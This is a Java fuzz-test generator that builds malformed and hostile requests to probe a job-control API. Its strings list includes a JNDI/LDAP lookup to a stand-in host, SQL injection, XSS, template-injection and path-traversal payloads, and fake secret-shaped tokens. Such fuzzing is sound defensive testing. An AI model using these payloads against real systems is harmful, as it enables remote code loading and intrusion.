package io.controlplane.api;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.controlplane.ports.ContinuationTokens;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generators of hostile requests for the fuzz suite: bodies that are not JSON, are cut short, have
 * the wrong shape, nest too deep, are too large or carry the wrong media type; valid documents with
 * one to three fields corrupted; key-unsafe, oversized and mis-encoded path ids; forged lease ids
 * and continuation tokens; bad query values and bad credentials. Most of what they make is
 * invalid, some of it is valid (the checks accept any 2xx).
 *
 * <p>Values that only exist once a scene is set up (the leased job's id, its lease id, ...) are
 * written as placeholders ({@link FuzzScene#JOB} etc.) and filled in when a plan is sent.
 */
public final class FuzzInputs {

    private FuzzInputs() {
    }

    /** A request to send: {@code route} names the route it was made for ("POST /api/jobs"). */
    public record Plan(String route, String method, String path, String query, String auth, Map<String, String> headers,
                       Body body) {

        public Plan {
            headers = headers == null ? Map.of() : Map.copyOf(headers);
        }

        Plan withHeaders(Map<String, String> extra) {
            Map<String, String> all = new LinkedHashMap<>(headers);
            all.putAll(extra);
            return new Plan(route, method, path, query, auth, all, body);
        }

        @Override
        public String toString() {
            return method + " " + show(path, 300) + (query == null ? "" : "?" + show(query, 300)) + " [" + route + "] auth="
                    + auth + (headers.isEmpty() ? "" : " headers=" + show(headers.toString(), 300)) + " body="
                    + (body == null ? "none" : body);
        }
    }

    /** A body: its bytes, its Content-Type (null: no header) and what kind of input it is. */
    public record Body(byte[] bytes, String contentType, String label) {

        static Body json(String text, String label) {
            return new Body(text.getBytes(StandardCharsets.UTF_8), "application/json", label);
        }

        Body withContentType(String type) {
            return new Body(bytes, type, label + ", Content-Type " + (type == null ? "absent" : "'" + show(type, 60) + "'"));
        }

        @Override
        public String toString() {
            return label + " (" + bytes.length + " bytes): " + show(new String(bytes, StandardCharsets.UTF_8), 400);
        }
    }

    /** Printable, bounded: control characters and surrogates escaped, long text cut in the middle. */
    static String show(String text, int max) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            out.append(Character.isISOControl(c) || Character.isSurrogate(c) ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        String s = out.toString();
        return s.length() <= max ? s : s.substring(0, max / 2) + "...(" + s.length() + " chars)..." + s.substring(s.length() - max / 2);
    }

    // ---------------------------------------------------------------- strings and JSON values

    /** Text no field should take as it is: control characters, lone surrogates, key-unsafe, injections, secrets. */
    static final List<String> NASTY = List.of(
            "", " ", "\t", "\n", "\r\n", "\u0000", "a\u0000b", "\u0001", "\u001b[2J", "\u007f", "\u0085", "\u009f",
            "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\ud800", "a\udc00", "\udbff\udbff", "\udc00\ud800x",
            "a/b", "a\\b", "a#b", "a?b", "a|b", "a&b=c", "..", ".", "%2F", "%00", "%ZZ", "a%2Fb", "%",
            "' or '1'='1", "PartitionKey eq 'x'", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
            "{{7*7}}", "../../etc/passwd", "\ud835\udd18\ud835\udd2b\ud835\udd26", "\uff21\uff22\uff23", "e\u0301",
            "\ud83d\ude42", "\u202eevil", "null", "true", "0", "-0", "1e400", "NaN", "Infinity", "[]", "{}",
            "Premium ", " premium", "PREMIUM", "platinum", "westeurope\u0000", "WestEurope", "west europe", "eastus",
            "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst",
            "password=hunter2", "https://user:hunter2@dev.azure.com/contoso", "AccountKey=" + "A".repeat(86) + "==",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ",
            "http://", "https://", "javascript:alert(1)", "file:///etc/passwd", "https://dev.azure.com/contoso/../x",
            "https://kv-contoso.vault.azure.net/secrets/", "env:", "env:A B", "git", "cursor", "preempted");

    /** Lengths around the limits the api has (64, 128, 256, 500, 512, 1 KiB, ...). */
    private static final List<Integer> LONG = List.of(63, 64, 65, 100, 127, 128, 129, 200, 256, 257, 501, 512, 513, 601, 1000,
            1001, 1025, 2049, 5000, 20_000);

    public static Arbitrary<String> nastyText() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of(NASTY)),
                Tuple.of(2, Combinators.combine(Arbitraries.of("a", "\u00e9", "\ud83d\ude42", "/", "\u0000", "0"), Arbitraries.of(LONG))
                        .as(String::repeat)),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(5)));
    }

    /** A JSON string literal of {@code value}: control characters and surrogates as \\u escapes, so lone ones survive. */
    public static String jsonString(String value) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < value.length(); i++) {
            char c = value.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    static final List<String> BAD_NUMBERS = List.of("1e400", "-1e400", "1e-400", "-0", "-0.0", "0", "-1", "0.5", "1.0",
            "100.0000001", "-1e-7", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
            "2147483648", "-2147483649", "4.9e-324", "1.7976931348623157e309", "1" + "0".repeat(99), "1" + "0".repeat(150),
            "0." + "1".repeat(120), "1E2", "65", "1001", "100001", "101", "31");

    /** Not JSON where a value is expected. */
    static final List<String> BROKEN_VALUES = List.of("tru", "nul", "'single'", "\"unterminated", "\"bad \\x escape\"",
            "\"\\u12\"", "\"\\ud800\\u\"", "\"raw\u0001control\"", "\"raw\nnewline\"", "undefined", "NaN", "Infinity",
            "-Infinity", "+1", ".5", "1.", "01", "0x1F", "1_000", "[1,]", "{\"a\":1,}", "{,}", "[,1]", "{\"a\"}", "{\"a\" 1}",
            "{1:2}", "\u00a0", "/* comment */ 1");

    static String nestedArrays(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    static String nestedObjects(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String bigArray(int items) {
        StringBuilder out = new StringBuilder("[");
        for (int i = 0; i < items; i++) {
            out.append(i == 0 ? "" : ",").append("\"x").append(i).append('"');
        }
        return out.append(']').toString();
    }

    private static String bigObject(int fields) {
        StringBuilder out = new StringBuilder("{");
        for (int i = 0; i < fields; i++) {
            out.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return out.append('}').toString();
    }

    /** A raw JSON value (text) of the wrong type, out of range, or not JSON at all. */
    public static Arbitrary<String> badJsonValue() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, nastyText().map(FuzzInputs::jsonString)),
                Tuple.of(3, Arbitraries.of(BAD_NUMBERS)),
                Tuple.of(2, Arbitraries.of("true", "false", "null", "[]", "{}", "[null]", "[1,\"a\",{}]", "{\"\":null}",
                        "[\"azure-devops\",\"azure-devops\"]", "{\"type\":\"Git\"}", "\"\"", "[[]]", "[{}]")),
                Tuple.of(2, Arbitraries.of(BROKEN_VALUES)),
                Tuple.of(1, Arbitraries.of(2, 10, 63, 64, 65, 100, 1000, 10_000).map(FuzzInputs::nestedArrays)),
                Tuple.of(1, Arbitraries.of(2, 63, 64, 65, 1000, 5000).map(FuzzInputs::nestedObjects)),
                Tuple.of(1, Arbitraries.of(65, 1001, 3000).map(FuzzInputs::bigArray)),
                Tuple.of(1, Arbitraries.of(65, 101, 1001).map(FuzzInputs::bigObject)));
    }

    /** A field name to add: unknown, server-managed, case-changed, empty, huge, or not text. */
    static Arbitrary<String> fieldName() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of("", "__proto__", "constructor", "$where", "id", "tenantId", "state", "etag",
                        "agentId", "epoch", "leaseId", "attempt", "createdAt", "Tier", "REGION", "name ", "\u0000",
                        "x".repeat(1000), "\ud800", "items", "data", "kind", "percent")),
                Tuple.of(1, nastyText()));
    }

    // ---------------------------------------------------------------- corrupting valid documents

    /** What one corruption does to the node it picks. */
    enum Mutation { REPLACE, REMOVE, ADD_FIELD, DUPLICATE_KEY, WRAP_IN_ARRAY, STRINGIFY, NULLIFY, RENAME_UPPER, EMPTY }

    record Corruption(Mutation mutation, int position, String value, String name) {
    }

    private static final ObjectMapper JSON = Json.mapper();
    private static final String MARK = "__fuzz_mark_";

    /** {@code valid} with one to three corruptions, each at a node picked anywhere in the document. */
    public static Arbitrary<Body> corrupted(String valid) {
        Arbitrary<Mutation> mutation = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just(Mutation.REPLACE)), Tuple.of(2, Arbitraries.of(Mutation.values())));
        Arbitrary<Corruption> one = Combinators.combine(mutation, Arbitraries.integers().between(0, 9999),
                badJsonValue(), fieldName()).as(Corruption::new);
        return one.list().ofMinSize(1).ofMaxSize(3).map(corruptions -> corrupt(valid, corruptions));
    }

    static Body corrupt(String valid, List<Corruption> corruptions) {
        JsonNode root;
        try {
            root = JSON.readTree(valid);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException("not a valid template: " + valid, e);
        }
        Map<String, String> raw = new LinkedHashMap<>();
        List<String> done = new ArrayList<>();
        for (Corruption c : corruptions) {
            List<Node> nodes = new ArrayList<>();
            collectAt(root, null, null, -1, "", nodes);
            Node at = nodes.get(c.position() % nodes.size());
            String marker = MARK + raw.size() + "__";
            String quotedMarker = "\"" + marker + "\"";
            switch (c.mutation()) {
                case REPLACE -> {
                    raw.put(quotedMarker, c.value());
                    root = replace(root, at, JsonNodeFactory.instance.textNode(marker));
                }
                case REMOVE -> root = at.parent == null ? root : remove(root, at);
                case ADD_FIELD -> {
                    ObjectNode target = at.node.isObject() ? (ObjectNode) at.node : at.parent instanceof ObjectNode o ? o : null;
                    if (target != null) {
                        target.put(marker, marker);
                        raw.put(quotedMarker + ":" + quotedMarker, jsonString(c.name()) + ":" + c.value());
                    }
                }
                case DUPLICATE_KEY -> {
                    if (at.parent instanceof ObjectNode o) {
                        o.put(marker, marker);
                        raw.put(quotedMarker + ":" + quotedMarker, jsonString(at.field) + ":" + c.value());
                    }
                }
                case WRAP_IN_ARRAY -> root = replace(root, at, JsonNodeFactory.instance.arrayNode().add(at.node.deepCopy()));
                case STRINGIFY -> root = replace(root, at, JsonNodeFactory.instance.textNode(
                        at.node.isTextual() ? at.node.asText() + c.name() : at.node.toString()));
                case NULLIFY -> root = replace(root, at, JsonNodeFactory.instance.nullNode());
                case RENAME_UPPER -> {
                    if (at.parent instanceof ObjectNode o && at.field != null) {
                        JsonNode value = o.remove(at.field);
                        o.set(at.field.toUpperCase(java.util.Locale.ROOT).equals(at.field) ? at.field + "_" : at.field.toUpperCase(
                                java.util.Locale.ROOT), value);
                    }
                }
                case EMPTY -> root = replace(root, at, at.node.isArray() ? JsonNodeFactory.instance.arrayNode()
                        : at.node.isObject() ? JsonNodeFactory.instance.objectNode() : JsonNodeFactory.instance.textNode(""));
            }
            done.add(c.mutation() + " " + (at.path.isEmpty() ? "(root)" : at.path));
        }
        String text;
        try {
            text = JSON.writeValueAsString(root);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
        for (Map.Entry<String, String> r : raw.entrySet()) {
            text = text.replace(r.getKey(), r.getValue());
        }
        return new Body(utf8(text), "application/json", "corrupted: " + String.join(", ", done));
    }

    /** UTF-8 of text that may hold lone surrogates (as a host would receive them: replaced). */
    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private record Node(JsonNode node, JsonNode parent, String field, int index, String path) {
    }

    private static void collectAt(JsonNode node, JsonNode parent, String field, int index, String path, List<Node> out) {
        out.add(new Node(node, parent, field, index, path));
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> e : node.properties()) {
                collectAt(e.getValue(), node, e.getKey(), -1, path.isEmpty() ? e.getKey() : path + "." + e.getKey(), out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collectAt(node.get(i), node, null, i, path + "[" + i + "]", out);
            }
        }
    }

    private static JsonNode replace(JsonNode root, Node at, JsonNode with) {
        if (at.parent == null) {
            return with;
        }
        if (at.parent instanceof ObjectNode o) {
            o.set(at.field, with);
        } else if (at.parent instanceof ArrayNode a) {
            a.set(at.index, with);
        }
        return root;
    }

    private static JsonNode remove(JsonNode root, Node at) {
        if (at.parent instanceof ObjectNode o) {
            o.remove(at.field);
        } else if (at.parent instanceof ArrayNode a) {
            a.remove(at.index);
        }
        return root;
    }

    // ---------------------------------------------------------------- whole bodies

    /** A body that is no JSON document of the right kind, whatever the route: {@code valid} is the route's own. */
    public static Arbitrary<Body> malformed(String valid, int maxBodyBytes) {
        byte[] validBytes = utf8(valid);
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("", " ", "\n\t ", "hello", "<job/>", "{'tier':'Premium'}", "{tier:1}", "undefined",
                        "NaN", "--", "\u0000", "{", "}", "[", "]", "{}}", "{\"a\":1}{\"b\":2}", "/* c */ {}", "{} // c",
                        "\ufeff{}", "[]", "[{}]", "\"text\"", "42", "-0", "1e400", "true", "null", "{\"a\":1,\"a\":2}",
                        "[" + valid + "]", valid + "}", valid + ",", valid + valid, valid + " x", "\"" + valid + "\"")
                        .map(t -> Body.json(t, "not a JSON object"))),
                Tuple.of(3, Arbitraries.integers().between(1, Math.max(1, valid.length() - 1))
                        .map(n -> Body.json(valid.substring(0, n), "truncated at " + n))),
                Tuple.of(2, Arbitraries.of(65, 1000, 10_000, 30_000).map(n -> Body.json(nestedArrays(n), n + " nested arrays"))),
                Tuple.of(1, Arbitraries.of(65, 10_000).map(n -> Body.json("[".repeat(n), n + " unclosed arrays"))),
                Tuple.of(1, Arbitraries.of(65, 5000).map(n -> Body.json(nestedObjects(n), n + " nested objects"))),
                Tuple.of(2, Arbitraries.integers().between(0, validBytes.length - 1).map(i -> notUtf8(validBytes, i))),
                Tuple.of(2, oversized(valid, maxBodyBytes)));
    }

    /** {@code valid} with byte {@code i} made invalid UTF-8, or a whole document in another encoding. */
    private static Body notUtf8(byte[] valid, int i) {
        byte[][] bad = {{(byte) 0xC0, (byte) 0xAF}, {(byte) 0xFF}, {(byte) 0x80}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xC0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
        byte[] insert = bad[i % bad.length];
        if (i % 11 == 0) {
            byte[] utf16 = new String(valid, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16);
            return new Body(utf16, "application/json", "UTF-16 with a byte order mark");
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(valid, 0, i);
        out.writeBytes(insert);
        out.write(valid, i, valid.length - i);
        return new Body(out.toByteArray(), "application/json", "invalid UTF-8 at byte " + i);
    }

    /** Bodies just over the api's limit (413), and documents far beyond any field's limit. */
    public static Arbitrary<Body> oversized(String valid, int maxBodyBytes) {
        return Arbitraries.of(1, 2, 100, 5000, 70_000).map(extra -> {
            int size = maxBodyBytes + extra;
            String padded = valid.trim();
            String body = padded.endsWith("}")
                    ? padded.substring(0, padded.length() - 1) + ",\"pad\":\"" + "p".repeat(Math.max(0, size - padded.length() - 9)) + "\"}"
                    : padded + " ".repeat(Math.max(0, size - padded.length()));
            return Body.json(body, "over the limit by about " + extra + " bytes");
        });
    }

    /** A Content-Type other than JSON, malformed, or missing. */
    public static Arbitrary<String> badContentType() {
        return Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json;charset=ISO-8859-1",
                "application/jsonx", "json", "", " ", ";", ";;", " ; ", "application/merge-patch+json", "APPLICATION/JSON",
                "application/json\u0000", "*/*", "application/*", "text/json", "application/problem+json",
                "application/json, text/plain", "\u00e9/json");
    }

    /** The route's body: mostly corrupted or malformed, sometimes valid, sometimes with a wrong Content-Type. */
    public static Arbitrary<Body> bodyFor(String valid, int maxBodyBytes) {
        Arbitrary<Body> content = Arbitraries.frequencyOf(
                Tuple.of(10, corrupted(valid)),
                Tuple.of(5, malformed(valid, maxBodyBytes)),
                Tuple.of(1, Arbitraries.just(Body.json(valid, "valid"))));
        return Arbitraries.frequencyOf(
                Tuple.of(9, content),
                Tuple.of(1, Combinators.combine(content, Arbitraries.frequencyOf(
                        Tuple.of(4, badContentType()), Tuple.of(1, Arbitraries.just((String) null))))
                        .as(Body::withContentType)));
    }

    // ---------------------------------------------------------------- path parameters

    /**
     * A raw (still percent-encoded) path segment: mostly not an id the api could have issued, some
     * valid-looking ones nobody has, and sometimes one of {@code known} (placeholders of the scene).
     */
    public static Arbitrary<String> pathId(String... known) {
        Arbitrary<String> encoded = Arbitraries.of("%2F", "a%2Fb", "%00", "a%00", "%ZZ", "%", "%2", "%C0%AF", "%FF",
                "%ED%A0%80", "%E2%82", "%25", "%20", "%2e%2e", "%2E", "a%3Fb", "a%23b", "%5C", "%7C", "%0A", "%0D%0A",
                "%EF%BB%BF", "%F0%9F%99%82", "%C3%A9", "job%2D1", "%u002F", "%%", "+", "a+b", "%2B");
        Arbitrary<String> raw = Arbitraries.of("a\\b", "a#b", "a?b", "a?b=c", "..", ".", "\u0000", "a\nb", " ", "a b", "\u00e9",
                "\ud800", "\ud83d\ude42", ";", "a;b=c", "*", "~", "$", "'", "\"", "<x>", "a|b", "{jobId}", "null", "0", "-1",
                "job/x", "//", "a/../b", "\u202e", "\u00a0", "\uff0f");
        Arbitrary<String> plausible = Arbitraries.of("job-unknown", "00000000-0000-0000-0000-000000000000", "agent-9",
                "contoso-other", "A", "a.b_c-d", "fabrikam", "operators", "provider", "c");
        Arbitrary<String> lengthy = Combinators.combine(Arbitraries.of("a", "%41", "-", "%2F", "\u00e9", "0"), Arbitraries.of(LONG))
                .as(String::repeat);
        List<Tuple.Tuple2<Integer, Arbitrary<? extends String>>> choices = new ArrayList<>(List.of(
                Tuple.of(4, encoded), Tuple.of(3, raw), Tuple.of(2, plausible), Tuple.of(2, lengthy),
                Tuple.of(1, Arbitraries.strings().all().ofMinLength(1).ofMaxLength(30)),
                Tuple.of(1, Arbitraries.strings().alpha().numeric().withChars("._-").ofMinLength(1).ofMaxLength(70))));
        if (known.length > 0) {
            choices.add(Tuple.of(3, Arbitraries.of(known)));
            choices.add(Tuple.of(1, Combinators.combine(Arbitraries.of(known), Arbitraries.of("%2F", "/", "x", "%00", "?", "#",
                    "%", " ", "\u00e9", ".", "=")).as((k, s) -> k + s)));
            choices.add(Tuple.of(1, Combinators.combine(Arbitraries.of(known), Arbitraries.of("%2F", "x", "%00", "..", "%25"))
                    .as((k, s) -> s + k)));
        }
        @SuppressWarnings({"unchecked", "rawtypes"})
        Arbitrary<String> any = Arbitraries.frequencyOf(choices.toArray(new Tuple.Tuple2[0]));
        return any;
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** Lease ids: the real one, forged ones of the right format, malformed ones, and any bad path id. */
    public static Arbitrary<String> leaseId() {
        Arbitrary<String> forged = Arbitraries.of(
                b64("l1\ncontoso\njob-1\n1\n0123456789abcdef01234567"), b64("l1\n../x\nj\n1\nab"),
                b64("l1\ncontoso|x\nj\n1\nab"), b64("l1\ncontoso\nj/k\n1\nab"), b64("l2\ncontoso\nj\n1\nab"),
                b64("l1\ncontoso\nj\n1"), b64("l1\ncontoso\nj\n1\nab\nextra"), b64("l1\ncontoso\nj\nNaN\nab"),
                b64("l1\ncontoso\nj\n99999999999999999999\nab"), b64("l1\ncontoso\nj\n-1\nab"), b64("l1\n\n\n\n"),
                b64("\n\n\n\n"), b64("l1\ncontoso\n" + "j".repeat(600) + "\n1\nab"), b64("l1\n\u0000\nj\n1\nab"),
                "bDEKY29udG9zbwpqCjEKYWI=", "bDEKY29udG9zbwpqCjEKYWI==", "bDEK+29udG9z/wpqCjEKYWI", "bDEK%2B29udG9z%2FwpqCjEKYWI",
                "!!!", "====", "a", "l1", Base64.getUrlEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 10, 10, 10, 10}),
                "A".repeat(601), "A".repeat(600), "A".repeat(2000));
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(FuzzScene.LEASE)),
                Tuple.of(2, Arbitraries.of(FuzzScene.LEASE_FORGED, FuzzScene.LEASE_NEXT_EPOCH, FuzzScene.LEASE_OTHER_TENANT,
                        FuzzScene.LEASE_OF_QUEUED_JOB)),
                Tuple.of(3, forged),
                Tuple.of(3, pathId(FuzzScene.LEASE)));
    }

    // ---------------------------------------------------------------- query parameters

    /** A raw query string of some of {@code params} (name to valid values), with bad values, unknown names and bad encodings. */
    public static Arbitrary<String> query(Map<String, List<String>> params) {
        List<String> names = new ArrayList<>(params.keySet());
        Arbitrary<String> one = Arbitraries.of(names).flatMap(name -> Combinators.combine(
                Arbitraries.frequencyOf(Tuple.of(1, Arbitraries.of(params.get(name))), Tuple.of(4, badQueryValue(name))),
                Arbitraries.of(Encoding.values())).as((value, encoding) -> name + "=" + encoding.apply(value)));
        Arbitrary<String> odd = Arbitraries.of("limit", "state=", "=x", "&&", "limit=1&limit=abc", "limit=abc&limit=1",
                "unknown=1", "%ZZ=1", "limit=%ZZ", "limit=%00", "continuationToken=%", "a=b=c", "limit=+5", "state=Queued%00",
                "waitSeconds=%2B5", "type=%E2%82", "x".repeat(3000) + "=1");
        return Arbitraries.frequencyOf(Tuple.of(6, one.list().ofMinSize(1).ofMaxSize(3).map(l -> String.join("&", l))),
                        Tuple.of(1, odd))
                .injectNull(0.05);
    }

    /** How a query value is written into the raw query. */
    enum Encoding {
        ENCODED, RAW, PLUS_FOR_SPACE;

        String apply(String value) {
            return switch (this) {
                case ENCODED -> java.net.URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
                case PLUS_FOR_SPACE -> java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
                case RAW -> value;
            };
        }
    }

    /** A bad value for one query parameter, by its name. */
    static Arbitrary<String> badQueryValue(String name) {
        Arbitrary<String> numbers = Arbitraries.of("", "-1", "0", "501", "1e3", "abc", "2147483648", "-2147483649", "+5", "0x10",
                " 5", "5 ", "\uff15", "NaN", "null", "1.5", "31", "-0", "99999999999999999999", "\u0665", "1_0");
        Arbitrary<String> tokens = Arbitraries.of(
                b64("v1:../x"), b64("v1:a/b"), b64("v1:a#b"), b64("v1:"), b64("v2:job-1"), b64("v1:\u0000"), b64("v1:" + "k".repeat(600)),
                b64("v1:f|WorkItem|1"), b64("v1:g|x"), b64("v1:zzzz"), b64("v1:contoso\u0000job"), "!!!", "%%%", "====",
                Base64.getEncoder().encodeToString("v1:a+b/c".getBytes(StandardCharsets.UTF_8)), "A".repeat(5000),
                Base64.getUrlEncoder().encodeToString(new byte[] {'v', '1', ':', (byte) 0xFF, (byte) 0xC0}),
                ContinuationTokens.after("job-1"), ContinuationTokens.after("f|WorkItem|"), ContinuationTokens.after("r|WorkItem|101"));
        Arbitrary<String> enums = Arbitraries.of("queued", "QUEUED", "Queued ", "Done", "Gold", "premium", "Platinum\u0000",
                "eastus", "WestEurope", "west europe", "westeurope ", "w", "Queued,Running", "*", "9");
        return switch (name) {
            case "limit", "waitSeconds" -> Arbitraries.frequencyOf(Tuple.of(4, numbers), Tuple.of(1, nastyText()));
            case "continuationToken" -> Arbitraries.frequencyOf(Tuple.of(4, tokens), Tuple.of(1, nastyText()));
            case "state", "tier", "region" -> Arbitraries.frequencyOf(Tuple.of(3, enums), Tuple.of(2, nastyText()));
            default -> Arbitraries.frequencyOf(Tuple.of(2, nastyText()), Tuple.of(1, numbers), Tuple.of(1, enums));
        };
    }

    // ---------------------------------------------------------------- credentials and headers

    /** Whose credentials: mostly the route's proper caller ({@link FuzzScene#AUTH_OK}), else one that proves or permits nothing. */
    public static Arbitrary<String> auth() {
        return Arbitraries.frequencyOf(
                Tuple.of(17, Arbitraries.just(FuzzScene.AUTH_OK)),
                Tuple.of(3, Arbitraries.of(FuzzScene.AUTH_KINDS)));
    }

    /** Headers a caller may send badly: request ids, trace context. */
    public static Arbitrary<Map<String, String>> extraHeaders() {
        Arbitrary<String> values = Arbitraries.frequencyOf(Tuple.of(3, nastyText()), Tuple.of(1, Arbitraries.of(
                "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-01", "00-" + "a".repeat(32) + "-" + "b".repeat(16) + "-01",
                "ff-" + "a".repeat(32) + "-" + "b".repeat(16) + "-01", "00-xyz", "request-1")));
        return Combinators.combine(Arbitraries.of("x-request-id", "traceparent", "tracestate", "Idempotency-Key", "Accept",
                "Content-Length", "Transfer-Encoding", "Host"), values).as(Map::of).injectNull(0.6)
                .map(m -> m == null ? Map.of() : m);
    }
}
